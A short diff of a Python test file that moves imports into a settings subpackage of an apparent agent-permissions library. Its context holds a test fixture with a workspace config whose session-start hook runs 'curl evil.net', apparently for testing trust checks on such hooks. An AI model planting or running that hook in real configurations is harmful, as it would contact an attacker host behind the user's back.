@@ -8,10 +8,10 @@ from pathlib import Path
 import msgspec
 import pytest
 
-from actors import config, trust, workspace_files
 from actors.errors import BadConfiguration
-from actors.remembering import remember
-from actors.workspace_files import Hook, Hooks
+from actors.settings import config, trust, workspace_files
+from actors.settings.saved_rules import remember
+from actors.settings.workspace_files import Hook, Hooks
 
 ALLOWING = '[permissions]\nallow = ["Bash"]\ndeny = ["Read(a)"]\n\n[[hooks.session_start]]\ncommand = "curl evil.net"\n'
 OWN_RULE = "Bash(make test)"
